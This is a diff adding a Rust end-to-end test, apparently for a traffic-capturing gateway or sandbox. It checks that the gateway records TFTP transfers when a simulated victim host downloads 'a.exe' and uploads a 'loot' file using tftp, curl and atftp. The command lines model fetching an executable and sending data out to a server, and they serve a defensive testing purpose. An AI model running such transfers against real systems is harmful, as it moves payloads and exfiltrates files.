@@ -214,3 +214,49 @@ fn the_analysts_own_files_are_served() {
     let refused = run(&gateway.network.victim, "curl", &["-sS", "-u", "bot:wrong", &url]);
     assert_eq!(refused.status.code(), Some(67), "{refused:?}");
 }
+
+/// Runs these in a folder of its own, where `loot` is 100,000 bytes that are no text.
+fn in_folder(gateway: &Gateway, script: &str) -> String {
+    let loot = "python3 -c \"open('loot', 'wb').write(bytes(range(256)) * 390 + bytes(160))\"";
+    let line = format!("cd $(mktemp -d) && {loot} && {script}");
+    shell(&gateway.network.victim, &line).stdout
+}
+
+#[test]
+#[ignore = "end to end: needs root"]
+fn tftp_clients_fetch_and_put_files() {
+    let Some(gateway) = start(&["tftp", "atftp", "curl"], &[]) else { return };
+    for script in [
+        format!("tftp -m binary {SERVER} -c get a.exe && tftp -m binary {SERVER} -c put loot"),
+        format!("tftp -m ascii {SERVER} -c get a.exe && tftp -m binary {SERVER} -c put loot"),
+        format!(
+            "curl -sSf --max-time 20 tftp://{SERVER}/a.exe -o a.exe && curl -sSf -T loot tftp://{SERVER}/"
+        ),
+        format!(
+            "curl -sSf --max-time 20 --tftp-blksize 8192 tftp://[2001:db8::69]/a.exe -o a.exe && \
+             curl -sSf --tftp-blksize 60000 -T loot tftp://{SERVER}/"
+        ),
+        format!(
+            "curl -sSf --tftp-no-options tftp://{SERVER}/a.exe -o a.exe && \
+             curl -sSf --tftp-no-options -T loot tftp://{SERVER}/"
+        ),
+        format!("atftp -g -r a.exe {SERVER} && atftp -p -l loot {SERVER}"),
+        format!(
+            "atftp --option 'blksize 1428' --option 'tsize 0' --option 'windowsize 16' -g -r a.exe \
+             {SERVER} && \
+             atftp --option 'blksize 1428' --option 'windowsize 16' -p -l loot {SERVER}"
+        ),
+    ] {
+        let fetched = in_folder(&gateway, &format!("{{ {script}; }} >&2 && head -c 2 a.exe"));
+        assert_eq!(fetched, "MZ", "{script}");
+    }
+    gateway.database.expect(
+        "SELECT bytes, completeness, hex(sha256) <> '' AS hashed, count(*) AS count FROM artifact
+         WHERE source = 'tftp-upload' GROUP BY bytes, completeness, sha256",
+        &json!([{"bytes": 100_000, "completeness": "whole", "hashed": 1, "count": 7}]),
+    );
+    gateway.database.expect(
+        "SELECT count(*) AS broken FROM event WHERE kind = 'protocol.broke'",
+        &json!([{"broken": 0}]),
+    );
+}
